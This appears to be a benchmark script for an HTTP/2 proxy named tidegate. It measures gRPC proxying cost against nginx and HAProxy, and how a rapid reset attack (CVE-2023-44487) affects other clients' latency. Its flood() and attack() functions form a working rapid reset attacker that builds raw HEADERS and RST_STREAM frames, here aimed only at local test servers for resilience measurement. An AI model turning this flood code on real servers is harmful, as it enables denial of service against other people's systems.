#!/usr/bin/env python3
"""Measures gRPC through proxies, and what a rapid reset attack on HTTP/2 costs other clients.

usage: scripts/http2_costs.py [grpc] [reset]

Runs the parts that are named, or both. Needs openssl, nginx and HAProxy. Every server under test runs on CPU 0 with one worker;
the load generator (`tidegate bench http --http2`), the origin and the attacker run on CPU 1. Run it on a machine that does
nothing else.

grpc: unary calls over HTTP/2 with TLS on both sides, 64 connections with 8 streams. The origin is nginx. The cost is all time in
which CPU 0 was not idle, divided by the calls: medians of paired rounds.
reset: requests at a constant rate, first alone, then beside a client that opens streams and resets them at once (CVE-2023-44487)
as fast as its CPU allows. `closed_ms` is the time from the first reset to the end of the attacker's connection. `p99_sink_ms` is
the p99 while the same attacker sends to a process that discards everything: the share of the attack that the client's CPU causes.

The program is target/release/tidegate, or the value of TIDEGATE. ROUNDS (7) and SECONDS (3) set the length.
"""
import json
import os
import socket
import statistics
import subprocess
import sys
import threading
import time

import route_costs
from route_costs import FOLDER, ORIGIN, PROGRAM, ROUNDS, SECONDS, busy, path, start

# The names of fields need no dynamic table: three of the static one, and a literal authority.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
HEAD = bytes([0x82, 0x84, 0x86, 0x01, 0x01]) + b"a"
STREAMS = 20_000


def certificate():
    key, cert = path("site.key"), path("site.crt")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
                    "-subj", "/CN=localhost", "-addext", "subjectAltName=DNS:localhost,IP:127.0.0.1", "-keyout", key, "-out", cert],
                   check=True, capture_output=True)
    with open(cert, encoding="ascii") as first, open(key, encoding="ascii") as second:
        return cert, key, path("site.pem", first.read() + second.read())


def tidegate(name, text):
    port = int(text.split('bind = "127.0.0.1:')[1].split('"')[0])
    return start([PROGRAM, "run", path(f"{name}.toml", f"[server]\nworkers = 1\n{text}")], port, 0)


def nginx(name, port, cpu, server):
    start(["nginx", "-e", path(f"{name}.log"), "-c", path(f"{name}.conf", f'''daemon off; worker_processes 1; user root;
pid {FOLDER}/{name}.pid; error_log {FOLDER}/{name}.log crit; events {{ worker_connections 4096; }}
http {{
    access_log off; keepalive_requests 1000000000; keepalive_timeout 1h;
    client_body_temp_path {FOLDER}/{name}1; proxy_temp_path {FOLDER}/{name}2; fastcgi_temp_path {FOLDER}/{name}3;
    uwsgi_temp_path {FOLDER}/{name}4; scgi_temp_path {FOLDER}/{name}5;
    {server}
}}
''')], port, cpu)


def haproxy(name, port, text):
    start(["haproxy", "-db", "-f", path(f"{name}.cfg", f'''global
    nbthread 1
    maxconn 4000
    ssl-default-bind-ciphersuites TLS_AES_256_GCM_SHA384
defaults
    mode http
    timeout connect 5s
    timeout client 1h
    timeout server 1h
    http-reuse always
{text}
''')], port, 0)


def load(url, seconds, *options):
    """Runs the load generator on CPU 1. Returns its report."""
    command = ["taskset", "-c", "1", PROGRAM, "bench", "http", "--http2", "-d", f"{seconds}s", "--json", *options, url]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    if not done.stdout.strip():
        sys.exit(f"{' '.join(command)}: {done.stderr}")
    return json.loads(done.stdout)


def failures(report):
    return sum(report["errors"].values())


def grpc():
    cert, key, both = certificate()
    message = path("message.bin")
    with open(message, "wb") as file:
        file.write(bytes([0, 0, 0, 0, 14]) + b"\x0a\x0cHello, World")
    folder = os.path.join(FOLDER, "www")
    os.makedirs(os.path.join(folder, "greeter"))
    os.link(message, os.path.join(folder, "greeter/SayHello"))
    tls = f"ssl_certificate {cert}; ssl_certificate_key {key}; ssl_protocols TLSv1.3;"
    # Static files refuse POST: the page of that error is the file itself, with the status and the trailer of a call.
    nginx("origin", ORIGIN, 1, f'''server {{ listen 127.0.0.1:{ORIGIN} ssl http2 backlog=4096; {tls} root {folder};
        default_type application/grpc; open_file_cache max=10; error_page 405 =200 $uri; add_trailer grpc-status 0 always; }}''')
    tidegate("grpc", f'''[[listener]]
bind = "127.0.0.1:19760"
tls = {{ certificates = [{{ cert = "{cert}", key = "{key}" }}] }}
[[route]]
proxy = "app"
[pool.app]
servers = ["127.0.0.1:{ORIGIN}"]
tls = {{ verify = false, alpn = ["h2"] }}
''')
    haproxy("grpc", 19761, f'''listen web
    bind 127.0.0.1:19761 ssl crt {both} alpn h2
    server app 127.0.0.1:{ORIGIN} ssl verify none alpn h2''')
    nginx("grpc", 19762, 0, f'''upstream app {{ server 127.0.0.1:{ORIGIN}; keepalive 256; keepalive_requests 1000000000; }}
    server {{ listen 127.0.0.1:19762 ssl http2; {tls} location / {{ grpc_pass grpcs://app; grpc_ssl_protocols TLSv1.3; }} }}''')
    options = ["-c", "64", "--streams", "8", "-k", "-X", "POST", "--body-file", message, "-H", "content-type: application/grpc",
               "-H", "te: trailers"]
    urls = {name: f"https://127.0.0.1:{port}/greeter/SayHello"
            for name, port in (("nginx", 19762), ("haproxy", 19761), ("tidegate", 19760))}
    costs = {name: [] for name in urls}
    for turn in range(ROUNDS + 1):
        for name in list(urls) if turn % 2 else list(urls)[::-1]:
            before = busy()
            report = load(urls[name], SECONDS, *options)
            spent, calls = busy() - before, report["requests"]
            if failures(report):
                print(f"  warning: {name}: {failures(report)} failed calls")
            if turn:
                costs[name].append(spent * 1e6 / calls)
    for name in ("nginx", "haproxy"):
        ratios = [one / base for one, base in zip(costs["tidegate"], costs[name])]
        print(json.dumps({"what": "gRPC unary, TLS and HTTP/2 on both sides, 64 connections, 8 streams", "against": name,
                          "us_per_call": round(statistics.median(costs["tidegate"]), 2),
                          "us_of_the_other": round(statistics.median(costs[name]), 2),
                          "ratio": round(statistics.median(ratios), 3), "min": round(min(ratios), 3), "max": round(max(ratios), 3)}))


def flood(port, until, ended):
    """Opens streams and resets them at once, on one connection after the other. Adds to `ended` how long each one lasted."""
    frames = bytearray()
    for stream in range(1, 2 * STREAMS, 2):
        number = stream.to_bytes(4, "big")
        frames += len(HEAD).to_bytes(3, "big") + bytes([1, 5]) + number + HEAD
        frames += bytes([0, 0, 4, 3, 0]) + number + bytes([0, 0, 0, 8])
    frames = bytes(frames)
    while time.monotonic() < until:
        with socket.create_connection(("127.0.0.1", port)) as peer:
            peer.settimeout(5)
            begin = time.monotonic()
            try:
                peer.sendall(PREFACE + frames)
                while peer.recv(65536):
                    pass
            except OSError:
                pass
            ended.append((time.monotonic() - begin) * 1e3)


def attack():
    """The attacker's own process: port, seconds. Prints the durations of its connections in milliseconds."""
    ended = []
    flood(int(sys.argv[2]), time.monotonic() + float(sys.argv[3]), ended)
    print(json.dumps(ended))


def discard(listener):
    while True:
        peer = listener.accept()[0]
        taken = 0
        while taken < 1 << 19:
            got = len(peer.recv(65536))
            taken += got
            if not got:
                break
        peer.close()


def p99(port):
    report = load(f"http://127.0.0.1:{port}/json", SECONDS, "-c", "16", "-R", "2000/s")
    return report["latency_us"]["p99"] / 1e3, failures(report)


def attacked(port, target):
    """The p99 on `port` while another process attacks `target`, the errors, and the attacker's connections."""
    command = ["taskset", "-c", "1", sys.executable, os.path.abspath(__file__), "attack", str(target), str(SECONDS + 1)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as attacker:
        time.sleep(0.5)
        found = p99(port)
        return *found, json.loads(attacker.communicate()[0])


def reset():
    answer = '''respond = { status = 200, headers = { content-type = "application/json" }, body = '{"message":"Hello, World!"}' }'''
    tidegate("reset", f'[[listener]]\nbind = "127.0.0.1:19770"\nh2c = true\n[[route]]\n{answer}\n')
    haproxy("reset", 19771, '''listen web
    bind 127.0.0.1:19771 proto h2
    http-request return status 200 content-type application/json string "{}"''')
    nginx("reset", 19772, 0, '''server { listen 127.0.0.1:19772 http2; default_type application/json;
        location / { return 200 '{"message":"Hello, World!"}'; } }''')
    sink = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=discard, args=(sink,), daemon=True).start()
    for name, port in (("tidegate", 19770), ("haproxy", 19771), ("nginx", 19772)):
        rows = []
        for _ in range(ROUNDS):
            quiet, _ = p99(port)
            through_sink, _, _ = attacked(port, sink.getsockname()[1])
            loaded, errors, ended = attacked(port, port)
            rows.append((quiet, through_sink, loaded, errors, len(ended), max(ended)))
        column = [[row[at] for row in rows] for at in range(6)]
        ratio = statistics.median(loaded / quiet for quiet, loaded in zip(column[0], column[2]))
        print(json.dumps({"what": "rapid reset beside 2,000 requests/s", "server": name,
                          "p99_quiet_ms": round(statistics.median(column[0]), 3),
                          "p99_sink_ms": round(statistics.median(column[1]), 3),
                          "p99_attack_ms": round(statistics.median(column[2]), 3), "ratio": round(ratio, 2),
                          "errors": sum(column[3]), "attackers": sum(column[4]), "closed_ms": round(max(column[5]), 1)}), flush=True)


route_costs.PARTS = {"grpc": grpc, "reset": reset}
if __name__ == "__main__":
    if sys.argv[1:2] == ["attack"]:
        attack()
    else:
        route_costs.main()
